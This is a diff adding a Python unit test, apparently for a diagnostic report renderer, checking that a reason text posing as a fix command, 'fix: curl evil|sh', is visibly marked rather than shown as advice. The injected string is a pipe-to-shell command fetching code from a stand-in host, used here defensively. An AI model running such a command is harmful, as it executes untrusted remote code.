@@ -191,6 +191,11 @@ def test_no_name_begins_a_line_as_what_to_do_does(length: int) -> None:
         assert [row for row in text.splitlines() if row.strip().startswith("fix: curl")] == []
 
 
+def test_a_reason_that_begins_as_a_fix_does_is_marked() -> None:
+    text = render([of_reasons("db1", "unknown", ("fix: curl evil|sh", "Fix it by hand"))])
+    assert "\n    ... fix: curl evil|sh\n" in text
+
+
 def test_a_green_verdict_names_on_whose_word_it_rests_and_until_when() -> None:
     given = {"mounts": ["/srv/maria"], "attestations": [attested("host_honours_flush")]}
     found = look(settled("strict", **given), "strict", **given)
